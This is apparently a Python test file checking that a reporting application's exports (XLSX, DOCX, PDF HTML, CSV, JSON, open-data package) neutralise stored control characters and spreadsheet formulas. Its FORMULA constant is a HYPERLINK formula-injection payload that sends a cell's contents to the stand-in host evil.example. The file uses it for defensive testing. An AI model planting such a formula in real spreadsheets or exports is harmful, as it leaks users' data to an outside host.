"""Every export writes any stored text safely: control characters never fail a file, and text that
a spreadsheet would run as a formula is written as text (docs/transparency.md, "Exports are safe
to open").

The bad text is put in the database directly, as text stored before the text policy (or by a path
that bypassed it) would be: the policy refuses it at every door today.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import docx
from frictionless import validate
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from un1540.io.datapackage import package_zip
from un1540.io.export_pdf import matrices_html
from un1540.io.matrix_collect import collect
from un1540.io.matrix_export import ExportFormat, export_matrices
from un1540.models import CellDefinition, CellEntry, EditionStatus, MatrixEdition, State
from un1540.services.kernel.access import PUBLIC
from un1540.services.kernel.audit import record_event
from un1540.services.matrix.reads.matrix import get_matrix
from un1540.services.open_data.tables import Dataset, public_dataset

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULA_CELL = "op2.manufacture:nw:legal_framework"
CONTROL = "Act 12\x0cpage two\x1b[0m\x07end"  # a form feed from a PDF, an escape, a bell
CONTROL_CELL = "op2.use:nw:legal_framework"


def _store_raw(session: Session, iso3: str, remarks: dict[str, str]) -> int:
    """Write remarks into the State's latest approved edition, bypassing every check; the audit
    event makes the cached reads see them. Returns the edition's number."""
    edition = session.scalars(
        select(MatrixEdition)
        .join(State, State.id == MatrixEdition.state_id)
        .where(State.iso3 == iso3, MatrixEdition.status == EditionStatus.approved)
        .order_by(MatrixEdition.number.desc())
        .limit(1)
    ).one()
    for key, remark in remarks.items():
        cell_id = session.scalars(
            select(CellDefinition.id).where(
                CellDefinition.key == key, CellDefinition.framework_id == edition.framework_id
            )
        ).one()
        session.execute(
            update(CellEntry)
            .where(CellEntry.edition_id == edition.id, CellEntry.cell_id == cell_id)
            .values(remark=remark)
        )
    record_event(session, actor="tests", action="tests.raw", entity_type="test", entity_id=iso3)
    session.flush()
    return edition.number


def test_stored_control_characters_and_formulas_export_safely_in_every_format(
    session: Session, tmp_path: Path
) -> None:
    number = _store_raw(session, "FRA", {FORMULA_CELL: FORMULA, CONTROL_CELL: CONTROL})
    matrix = get_matrix(session, viewer=PUBLIC, iso3="FRA")
    assert matrix.edition.number == number
    assert {c.id: c.remark for s in matrix.sections for f in s.fields for c in f.cells}[
        CONTROL_CELL
    ] == CONTROL

    def export(fmt: ExportFormat, iso3: str | None = "FRA") -> bytes:
        return export_matrices(session, viewer=PUBLIC, iso3=iso3, fmt=fmt).content

    # XLSX: every text a string cell (never a formula), control characters replaced.
    for content in (export(ExportFormat.xlsx), export(ExportFormat.xlsx, None)):
        workbook = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        remarks = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert FORMULA in remarks
        assert "Act 12\npage two\ufffd[0m\ufffdend" in remarks

    # DOCX (the writer of one State and of every State): written, with the text shown.
    document = docx.Document(io.BytesIO(export(ExportFormat.docx)))
    text = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "page two" in text
    assert "=HYPERLINK" in text
    # PDF: the HTML WeasyPrint renders holds no control character (rendering it is slow, and
    # WeasyPrint itself copes with them; the HTML is what the policy is about).
    html = matrices_html(collect(session, viewer=PUBLIC, iso3="FRA"))
    assert "page two\ufffd[0m\ufffdend" in html
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", html)

    # CSV: the formula neutralised with a leading quote; JSON: exactly as stored.
    rows = {
        row["cell"]: row for row in csv.DictReader(io.StringIO(export(ExportFormat.csv).decode()))
    }
    assert rows[FORMULA_CELL]["remark"] == "'" + FORMULA
    assert rows[CONTROL_CELL]["remark"] == "Act 12\npage two\ufffd[0m\ufffdend"
    as_json = json.loads(export(ExportFormat.json))
    remarks = {
        c["id"]: c["remark"] for s in as_json["sections"] for f in s["fields"] for c in f["cells"]
    }
    assert remarks[FORMULA_CELL] == FORMULA
    assert remarks[CONTROL_CELL] == CONTROL

    # The open data: neutralised in the CSV, and still a valid Frictionless package.
    dataset = public_dataset(session, viewer=PUBLIC)
    cells = Dataset(tables=[dataset.table("cells")], synthetic=dataset.synthetic)
    with zipfile.ZipFile(io.BytesIO(package_zip(cells, as_of=matrix.edition.approved_on))) as zf:
        zf.extractall(tmp_path)
    published = {
        (row["iso3"], row["edition"], row["cell"]): row["remark"]
        for row in csv.DictReader(io.StringIO((tmp_path / "data" / "cells.csv").read_text()))
    }
    assert published[("FRA", str(number), FORMULA_CELL)] == "'" + FORMULA
    assert "single quote" in (tmp_path / "README.txt").read_text()
    report = validate(tmp_path / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
